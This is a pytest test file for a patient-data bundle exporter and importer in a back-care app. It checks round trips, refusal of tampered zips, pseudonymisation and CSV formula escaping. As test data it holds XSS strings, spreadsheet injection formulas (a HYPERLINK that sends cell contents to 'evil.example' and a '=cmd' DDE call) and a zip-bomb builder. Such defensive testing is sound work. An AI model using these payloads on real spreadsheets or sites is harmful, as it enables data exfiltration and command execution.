"""Patient bundles: lossless round trip, idempotent import, damaged bundles refused, pseudonyms."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import zipfile

import pandas as pd
import pytest

from backcare.bundle import export_bundle, import_bundle, read_bundle
from backcare.errors import BundleError
from backcare.reports.privacy import pseudonym, pseudonym_key
from backcare.store import open_store
from backcare.store.schema import SCHEMA_VERSION
from tests.support.stores import row_counts

END = dt.date(2026, 5, 31)
PID = "demo-0002"


@pytest.fixture(scope="module")
def source(demo_copy):
    store = open_store(demo_copy(patients=3, days=90, seed=11, end=END))
    # free text a browser could run, to check it survives the trip as text
    store.save_session(
        PID,
        [{"exercise_id": "plank", "done": True, "hold_s": 45}],
        day=END,
        pain_before=4,
        notes='<script>alert(1)</script> & "quotes", commas\nnew line',
        session_id="xss-1",
        red_flags=["night-pain", "fever-weight-loss"],
    )
    store.add_annotation(
        PID, "<img src=x onerror=alert(1)>", day=END, author="Dr <b>K</b>", kind="milestone"
    )
    yield store
    store.close()


@pytest.fixture
def bundle(source, tmp_path):
    path = tmp_path / "p.zip"
    export_bundle(source, PID, path)
    return path


def _snapshot(store, pid):
    drop = {"created_at", "updated_at", "programme_id"}
    frames = [
        store.sessions(pid),
        store.items(pid),
        store.pain(pid),
        store.annotations(pid),
        store.prescriptions(pid),
        store.patients().query("patient_id == @pid"),
    ]
    return [
        f.drop(columns=[c for c in f.columns if c in drop]).reset_index(drop=True) for f in frames
    ]


def test_round_trip_is_lossless(source, bundle, store):
    added = import_bundle(store, bundle)
    assert added["patients"] == 1 and added["sessions"] == len(source.sessions(PID))
    for a, b in zip(_snapshot(source, PID), _snapshot(store, PID), strict=True):
        pd.testing.assert_frame_equal(a, b)
    notes = store.get_session("xss-1").notes
    assert notes == '<script>alert(1)</script> & "quotes", commas\nnew line'
    # the daily summary was built for the imported rows too
    assert int(store.daily(PID)["sessions"].sum()) == len(source.sessions(PID))


def test_importing_twice_duplicates_nothing(bundle, store):
    import_bundle(store, bundle)
    before = row_counts(store)
    again = import_bundle(store, bundle)
    assert row_counts(store) == before
    assert again == {
        "patients": 0,
        "programmes": 0,
        "sessions": 0,
        "items": 0,
        "pain": 0,
        "annotations": 0,
        "questionnaires": 0,
    }


def test_datapackage_documents_columns_versions_keys_and_hashes(bundle):
    info, frames = read_bundle(bundle)
    assert info["format"] == "backcare-bundle" and info["schema_version"] == SCHEMA_VERSION
    with zipfile.ZipFile(bundle) as zf:
        package = json.loads(zf.read("datapackage.json"))
        assert package["profile"] == "tabular-data-package"
        assert [r["path"] for r in package["resources"]] == [
            "patient.csv",
            "programmes.csv",
            "sessions.csv",
            "items.csv",
            "pain.csv",
            "annotations.csv",
            "questionnaires.csv",
        ]
        for r in package["resources"]:
            data = zf.read(r["path"])
            assert r["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
            assert r["bytes"] == len(data)
            assert r["rows"] == len(frames[r["name"]]) == data.count(b"\r\n") - 1 or r["name"] in (
                "sessions",
                "annotations",
            )  # notes and texts may hold line breaks
            names = [f["name"] for f in r["schema"]["fields"]]
            assert names == list(frames[r["name"]].columns)
            assert all(f["description"] for f in r["schema"]["fields"])
    fields = {
        (r["name"], f["name"]): f for r in package["resources"] for f in r["schema"]["fields"]
    }
    assert fields[("pain", "score")]["constraints"] == {
        "required": True,
        "minimum": 0,
        "maximum": 10,
    }
    assert fields[("sessions", "pain_before")]["constraints"] == {"minimum": 0, "maximum": 10}
    assert fields[("annotations", "kind")]["constraints"]["enum"] == [
        "note",
        "programme-change",
        "flare-up",
        "milestone",
    ]
    assert fields[("questionnaires", "instrument")]["constraints"] == {
        "required": True,
        "enum": ["rmdq", "psfs", "groc"],
    }
    # GROC's -7 is the lowest score, RMDQ's 24 the highest
    assert fields[("questionnaires", "score")]["type"] == "number"
    assert fields[("questionnaires", "score")]["constraints"] == {
        "required": True,
        "minimum": -7,
        "maximum": 24,
    }
    assert fields[("questionnaires", "recorded_at")]["type"] == "datetime"
    q = next(r for r in package["resources"] if r["name"] == "questionnaires")["schema"]
    assert q["primaryKey"] == ["response_id"]
    assert q["foreignKeys"] == [
        {"fields": "patient_id", "reference": {"resource": "patient", "fields": "patient_id"}}
    ]
    items = next(r for r in package["resources"] if r["name"] == "items")["schema"]
    assert items["primaryKey"] == ["session_id", "exercise_id"]
    assert items["foreignKeys"] == [
        {"fields": "session_id", "reference": {"resource": "sessions", "fields": "session_id"}}
    ]


def _rewrite(src, dst, *, change=None, fix_checksum=True, drop=None, add=None, package=None):
    """A copy of bundle src with one file changed (its hash and size fixed unless told not to),
    dropped or added, or the datapackage changed by package(dict)."""
    with zipfile.ZipFile(src) as zin:
        files = {n: zin.read(n) for n in zin.namelist()}
    desc = json.loads(files["datapackage.json"])
    by_path = {r["path"]: r for r in desc["resources"]}
    if change:
        name, fn = change
        files[name] = fn(files[name])
        if fix_checksum:
            by_path[name]["hash"] = "sha256:" + hashlib.sha256(files[name]).hexdigest()
            by_path[name]["bytes"] = len(files[name])
            by_path[name]["rows"] = len(
                pd.read_csv(io.BytesIO(files[name]), dtype=str, keep_default_na=False)
            )
    if drop:
        files.pop(drop)
    if add:
        files.update(add)
    if package:
        package(desc)
    files["datapackage.json"] = json.dumps(desc).encode()
    with zipfile.ZipFile(dst, "w") as zout:
        for n, data in files.items():
            zout.writestr(n, data)
    return dst


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        (
            {
                "change": ("sessions.csv", lambda b: b.replace(b",4,", b",5,", 1)),
                "fix_checksum": False,
            },
            "sessions.csv does not match its sha256",
        ),
        (
            {"change": ("items.csv", lambda b: b.replace(b"plank", b"yoga", 1))},
            "exercise_id: 'yoga'",
        ),
        ({"change": ("sessions.csv", lambda b: b.replace(b",4,", b",14,", 1))}, "pain_"),
        ({"change": ("pain.csv", lambda b: b.replace(b"morning", b"brunch", 1))}, "context"),
        (
            {"change": ("programmes.csv", lambda b: b.replace(b",7\r\n", b",seven\r\n", 1))},
            "times_per_week",
        ),
        (
            {"change": ("sessions.csv", lambda b: b.replace(b",demo-0002,", b",demo-0003,", 1))},
            "another patient",
        ),
        ({"change": ("sessions.csv", lambda b: b.split(b"\n", 1)[1])}, "columns"),
        ({"drop": "items.csv"}, "items.csv is missing"),
        ({"add": {"evil.py": b"print(1)"}}, "zip entry evil.py is not listed in datapackage.json"),
        ({}, None),  # an untouched copy imports fine
    ],
)
def test_damaged_or_altered_bundles_are_refused_and_write_nothing(
    bundle, store, tmp_path, kwargs, message
):
    bad = _rewrite(bundle, tmp_path / "bad.zip", **kwargs)
    before = row_counts(store)
    if message is None:
        import_bundle(store, bad)
        return
    with pytest.raises(BundleError, match=message):
        import_bundle(store, bad)
    assert row_counts(store) == before


def test_not_a_zip_is_refused(store, tmp_path):
    junk = tmp_path / "junk.zip"
    junk.write_bytes(b"not a zip at all")
    with pytest.raises(BundleError, match="not a readable bundle"):
        import_bundle(store, junk)


def test_conflicting_row_is_refused(bundle, store, tmp_path):
    import_bundle(store, bundle)
    changed = _rewrite(
        bundle,
        tmp_path / "c.zip",
        change=(
            "annotations.csv",
            lambda b: b.replace(b"Flare-up reported", b"Flare-up REPORTED", 1),
        ),
    )
    before = row_counts(store)
    with pytest.raises(
        BundleError, match=r"annotations.csv\[\d+\]\.text: .* differs from the store's"
    ):
        import_bundle(store, changed)
    assert row_counts(store) == before


def test_pseudonymised_bundle_hides_identity_and_free_text(source, tmp_path):
    path = tmp_path / "pseudo.zip"
    manifest = export_bundle(source, PID, path, pseudonymise=True)
    alias = pseudonym(pseudonym_key(source), PID)
    assert manifest["backcare"]["patient_id"] == alias and alias.startswith("P-")
    with zipfile.ZipFile(path) as zf:
        blob = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".csv"))
    name = source.patients().set_index("patient_id").loc[PID, "name"]
    for secret in (
        PID.encode(),
        name.encode(),
        b"script",
        b"onerror",
        b"Flare-up reported",
        b"2026-",
    ):
        assert secret not in blob, secret
    _, frames = read_bundle(path)
    days = pd.to_datetime(frames["sessions"]["day"])
    real = source.sessions(PID)["day"]
    # dates shifted by whole weeks: weekdays are kept, day 1 is in the week of 2000-01-03
    assert list(days.dt.day_of_week) == list(real.dt.day_of_week)
    assert pd.Timestamp("2000-01-03") <= days.min() < pd.Timestamp("2000-01-10")
    assert (days.max() - days.min()) == (real.max() - real.min())


def test_pseudonym_is_stable_and_text_kept_when_asked(source, tmp_path):
    a = export_bundle(source, PID, tmp_path / "a.zip", pseudonymise=True)
    b = export_bundle(
        source, PID, tmp_path / "b.zip", pseudonymise=True, keep_text=True, relative_dates=False
    )
    assert a["backcare"]["patient_id"] == b["backcare"]["patient_id"]
    _, frames = read_bundle(tmp_path / "b.zip")
    assert "<script>alert(1)</script>" in " ".join(frames["sessions"]["notes"].dropna())
    assert frames["sessions"]["day"].max() == END.isoformat()


def test_pseudonymised_bundle_imports_under_its_pseudonym(source, store, tmp_path):
    path = tmp_path / "pseudo.zip"
    manifest = export_bundle(source, PID, path, pseudonymise=True)
    import_bundle(store, path)
    assert len(store.sessions(manifest["backcare"]["patient_id"])) == len(source.sessions(PID))


def test_cli_export_and_import(source, tmp_path, capsys):
    from backcare.cli import main

    out = tmp_path / "cli.zip"
    assert (
        main(["export", "--patient", PID, "--out", str(out), "--db", str(source.engine.url)]) == 0
    )
    assert "wrote" in capsys.readouterr().out
    target = f"sqlite:///{tmp_path / 't.db'}"
    assert main(["import", str(out), "--db", target]) == 0
    assert "imported 1 patients" in capsys.readouterr().out
    assert main(["export", "--patient", "nobody", "--out", str(out), "--db", target]) == 2


# ---- import refuses, writing nothing, naming file, row and field ---------------------------
def _first_session_line(data: bytes) -> bytes:
    return data.split(b"\r\n")[1]


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        (  # an item whose session is not in the bundle
            {"change": ("items.csv", lambda b: b + b"ghost-session,plank,True,1,,30,\r\n")},
            r"items.csv\[\d+\]\.session_id: 'ghost-session' is not a session_id of sessions.csv",
        ),
        (  # a session pointing to a programme that is not in the bundle
            {
                "change": (
                    "sessions.csv",
                    lambda b: b.replace(
                        _first_session_line(b),
                        _first_session_line(b).rsplit(b",", 1)[0] + b",999999",
                    ),
                )
            },
            r"sessions.csv\[0\]\.programme_key: '999999' is not a programme_key of programmes",
        ),
        (  # the descriptor declares a size the zip entry does not have
            {"package": lambda d: d["resources"][3].update(bytes=d["resources"][3]["bytes"] + 1)},
            r"items.csv is \d+ bytes in the zip; datapackage.json says \d+",
        ),
        (
            {"package": lambda d: d["resources"][2].update(rows=10**9)},
            "sessions.csv declares 1000000000 rows; at most 1000000",
        ),
        (
            {"package": lambda d: d["resources"].pop()},
            "datapackage.json lists 'questionnaires.csv'",
        ),
        (
            {"package": lambda d: d.update(padding="x" * (2 << 20))},
            r"datapackage.json is \d+ bytes; at most 1048576",
        ),
    ],
)
def test_bundles_that_do_not_hold_together_are_refused(bundle, store, tmp_path, kwargs, message):
    bad = _rewrite(bundle, tmp_path / "bad.zip", **kwargs)
    before = row_counts(store)
    with pytest.raises(BundleError, match=message):
        import_bundle(store, bad)
    assert row_counts(store) == before


def test_a_duplicated_zip_entry_is_refused(bundle, store, tmp_path):
    with zipfile.ZipFile(bundle) as zin:
        files = {n: zin.read(n) for n in zin.namelist()}
    bad = tmp_path / "dup.zip"
    with zipfile.ZipFile(bad, "w") as zout, pytest.warns(UserWarning, match="Duplicate name"):
        for n, data in files.items():
            zout.writestr(n, data)
        zout.writestr("sessions.csv", files["sessions.csv"])  # a second one: which would win?
    before = row_counts(store)
    with pytest.raises(BundleError, match="zip entry sessions.csv appears twice"):
        import_bundle(store, bad)
    assert row_counts(store) == before


def test_sizes_past_the_limits_are_refused_before_anything_is_decompressed(
    bundle, store, tmp_path, monkeypatch
):
    import backcare.bundle as B

    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(
        zipfile.ZipFile,
        "open",
        lambda self, name, *a, **k: (
            opened.append(getattr(name, "filename", name)) or real_open(self, name, *a, **k)
        ),
    )
    with zipfile.ZipFile(bundle) as zf:
        sizes = {i.filename: i.file_size for i in zf.infolist()}
    monkeypatch.setattr(B, "MAX_ENTRY_BYTES", sizes["items.csv"] - 1)
    with pytest.raises(BundleError, match=rf"items.csv is {sizes['items.csv']} bytes; at most"):
        import_bundle(store, bundle)
    assert opened == ["datapackage.json"]  # only the (size-checked) descriptor was read
    monkeypatch.setattr(B, "MAX_ENTRY_BYTES", 64 << 20)
    total = sum(sizes.values())
    monkeypatch.setattr(B, "MAX_TOTAL_BYTES", total - 1)
    opened.clear()
    with pytest.raises(BundleError, match=f"the bundle is {total} bytes uncompressed"):
        import_bundle(store, bundle)
    assert opened == ["datapackage.json"]


def test_a_zip_bomb_is_refused_on_its_directory_sizes(store, tmp_path):
    bomb = tmp_path / "bomb.zip"
    _rewrite_bomb(bomb)
    with pytest.raises(BundleError, match=r"sessions.csv is 209715200 bytes; at most 67108864"):
        import_bundle(store, bomb)


def _rewrite_bomb(path):
    """A bundle-shaped zip whose sessions.csv inflates to 200 MiB (a few hundred KB packed)."""
    zero = b"0" * (200 << 20)
    package = {
        "backcare": {"format": "backcare-bundle", "bundle_version": 2},
        "resources": [
            {"path": p, "hash": "sha256:" + "0" * 64, "rows": 1, "bytes": n}
            for p, n in (("patient.csv", 0), ("programmes.csv", 0), ("sessions.csv", len(zero)))
        ]
        + [
            {"path": p, "hash": "sha256:" + "0" * 64, "rows": 1, "bytes": 1}
            for p in ("items.csv", "pain.csv", "annotations.csv")
        ],
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("datapackage.json", json.dumps(package))
        z.writestr("patient.csv", b"")
        z.writestr("programmes.csv", b"")
        z.writestr("sessions.csv", zero)


def test_stored_sessions_are_compared_with_their_items(bundle, store, tmp_path):
    import_bundle(store, bundle)
    before = row_counts(store)
    with zipfile.ZipFile(bundle) as zf:
        items = zf.read("items.csv").decode()
    first = items.split("\r\n")[1]
    sid = first.split(",")[0]
    # an item of a stored session with another dose
    changed_line = first.rsplit(",", 4)[0] + ",9,,,"
    for change, message in [
        (
            lambda b: b.replace(first.encode(), changed_line.encode(), 1),
            r"items.csv\[0\]\.sets: '9' differs from the store's",
        ),
        (  # an item the stored session does not have
            lambda b: b + f"{sid},wall-sit,False,,,,\r\n".encode(),
            rf"items.csv\[\d+\]\.exercise_id: 'wall-sit' is not stored for session_id '{sid}'",
        ),
        (  # an item of the stored session left out
            lambda b: b.replace((first + "\r\n").encode(), b"", 1),
            rf"session_id '{sid}' has exercise_id '.*' in the store but not in the bundle",
        ),
    ]:
        bad = _rewrite(bundle, tmp_path / "bad.zip", change=("items.csv", change))
        with pytest.raises(BundleError, match=message):
            import_bundle(store, bad)
        assert row_counts(store) == before


def test_a_patient_stored_with_another_name_or_time_zone_is_refused(bundle, store, tmp_path):
    _, frames = read_bundle(bundle)
    name, tz = frames["patient"].loc[0, ["name", "timezone"]]
    assert tz != "Asia/Tokyo"
    store.add_patient(PID, name, "Asia/Tokyo")  # every later day would be filed differently
    before = row_counts(store)
    with pytest.raises(
        BundleError,
        match=rf"patient.csv\[0\]\.timezone: '{tz}' differs from the store's 'Asia/Tokyo'",
    ):
        import_bundle(store, bundle)
    store.add_patient(PID, "Someone Else", tz)
    with pytest.raises(BundleError, match=r"patient.csv\[0\]\.name: .* differs from the store's"):
        import_bundle(store, bundle)
    assert row_counts(store) == before


def test_cli_import_errors_are_one_line_with_exit_2(bundle, tmp_path, capsys):
    from backcare.cli import main

    bad = _rewrite(
        bundle,
        tmp_path / "bad.zip",
        change=("items.csv", lambda b: b + b"ghost-session,plank,True,1,,30,\r\n"),
    )
    target = f"sqlite:///{tmp_path / 't.db'}"
    assert main(["import", str(bad), "--db", target]) == 2
    err = capsys.readouterr().err.strip()
    assert "\n" not in err and "Traceback" not in err
    assert "bad.zip: items.csv[" in err and ".session_id: 'ghost-session'" in err


# ---- formula escaping ------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-5 minutes walking, then -2 pain",  # a legit leading minus: it must come back as typed
    "@SUM(1+1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'already quoted",
    "''two quotes",
    "plain text, = in the middle",
]


def test_formula_cells_are_neutralised_on_export_and_restored_exactly(store, patient, tmp_path):
    from backcare.bundle import escape_cell, unescape_cell

    for n, text in enumerate(FORMULAS):
        store.save_session(
            patient,
            [{"exercise_id": "plank", "done": True, "hold_s": 30}],
            day=dt.date(2026, 2, 1) + dt.timedelta(days=n),
            notes=text,
            session_id=f"f{n}",
        )
        store.add_annotation(patient, text, day=dt.date(2026, 2, 1), author=text[:50])
    path = tmp_path / "f.zip"
    export_bundle(store, patient, path)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not name.endswith(".csv"):
                continue
            text = zf.read(name).decode()
            for row in csv.reader(io.StringIO(text, newline="")):
                for cell in row:  # what a spreadsheet sees: nothing starts a formula
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert escape_cell("=1") == "'=1" and escape_cell("'x") == "''x" and escape_cell("a") == "a"
    assert [unescape_cell(escape_cell(t)) for t in FORMULAS] == FORMULAS
    target = open_store(f"sqlite:///{tmp_path / 'empty.db'}")
    import_bundle(target, path)
    notes = target.sessions(patient).set_index("session_id")["notes"]
    assert [notes[f"f{n}"] for n in range(len(FORMULAS))] == FORMULAS
    texts = set(target.annotations(patient)["text"])
    authors = set(target.annotations(patient)["author"])
    assert set(FORMULAS) <= texts and {t[:50] for t in FORMULAS} <= authors
    target.close()


# ---- the Frictionless Data Package ------------------------------------------------------------
@pytest.mark.parametrize(
    "options",
    [
        {},
        {"pseudonymise": True},
        {"pseudonymise": True, "keep_text": True},
        {"pseudonymise": True, "relative_dates": False},
    ],
)
def test_every_export_is_a_valid_frictionless_data_package(source, tmp_path, options):
    from frictionless import validate

    path = tmp_path / "p.zip"
    export_bundle(source, PID, path, **options)
    folder = tmp_path / "unzipped"
    with zipfile.ZipFile(path) as zf:
        zf.extractall(folder)
    report = validate(str(folder / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    assert report.stats["tasks"] == 7


def test_frictionless_catches_what_the_schema_forbids(source, tmp_path):
    from frictionless import validate

    path = _rewrite(
        export_bundle(source, PID, tmp_path / "p.zip") and tmp_path / "p.zip",
        tmp_path / "bad.zip",
        change=("pain.csv", lambda b: b.replace(b",morning", b",brunch", 1)),
    )
    folder = tmp_path / "unzipped"
    with zipfile.ZipFile(path) as zf:
        zf.extractall(folder)
    report = validate(str(folder / "datapackage.json"))
    assert not report.valid
    assert [e[:2] for e in report.flatten(["fieldName", "type"])] == [
        ["context", "constraint-error"]
    ]


def test_a_version_1_bundle_with_manifest_json_still_imports(source, store, tmp_path):
    """Bundles written before datapackage.json: manifest.json, no formula escaping, sessions
    without programme_key (each session gets the programme in force on its day)."""
    _, frames = read_bundle(export_bundle(source, PID, tmp_path / "v2.zip") and tmp_path / "v2.zip")
    files = {}
    for name, df in frames.items():
        if name == "questionnaires":  # bundles of version 3 on
            continue
        if name == "sessions":
            df = df.drop(columns="programme_key")
        files[f"{name}.csv"] = df.to_csv(index=False, lineterminator="\n").encode()
    manifest = {
        "format": "backcare-bundle",
        "bundle_version": 1,
        "schema_version": 3,
        "files": {
            n: {"sha256": hashlib.sha256(d).hexdigest(), "rows": len(frames[n[:-4]])}
            for n, d in files.items()
        },
    }
    assert "questionnaires.csv" not in files
    old = tmp_path / "v1.zip"
    with zipfile.ZipFile(old, "w") as zf:
        zf.writestr("manifest.json", json.dumps(manifest))
        for n, d in files.items():
            zf.writestr(n, d)
    added = import_bundle(store, old)
    assert added["sessions"] == len(source.sessions(PID)) and added["items"] == len(
        source.items(PID)
    )
    assert store.get_session("xss-1").notes == (
        '<script>alert(1)</script> & "quotes", commas\nnew line'
    )


def test_a_programme_that_differs_from_the_stored_one_of_its_day_is_refused(
    bundle, store, tmp_path
):
    import_bundle(store, bundle)
    before = row_counts(store)
    # the same start day, another dose: importing it would replace the stored programme
    bad = _rewrite(
        bundle,
        tmp_path / "p.zip",
        change=("programmes.csv", lambda b: b.replace(b",7\r\n", b",6\r\n", 1)),
    )
    with pytest.raises(BundleError, match=r"programmes.csv\[0\]\.valid_from: the programme from"):
        import_bundle(store, bad)
    assert row_counts(store) == before


def test_a_version_2_bundle_without_questionnaires_still_imports(bundle, store, tmp_path):
    """Bundles written before questionnaires: bundle_version 2, no questionnaires.csv."""

    def as_v2(desc):
        desc["backcare"]["bundle_version"] = 2
        desc["resources"] = [r for r in desc["resources"] if r["name"] != "questionnaires"]

    old = _rewrite(bundle, tmp_path / "v2.zip", drop="questionnaires.csv", package=as_v2)
    info, frames = read_bundle(old)
    assert info["bundle_version"] == 2 and frames["questionnaires"].empty
    added = import_bundle(store, old)
    assert added["questionnaires"] == 0 and added["sessions"] > 0
    # a version 2 bundle that does carry questionnaires.csv is refused: it is not listed
    with pytest.raises(BundleError, match="zip entry questionnaires.csv is not listed"):
        import_bundle(store, _rewrite(bundle, tmp_path / "odd.zip", package=as_v2))
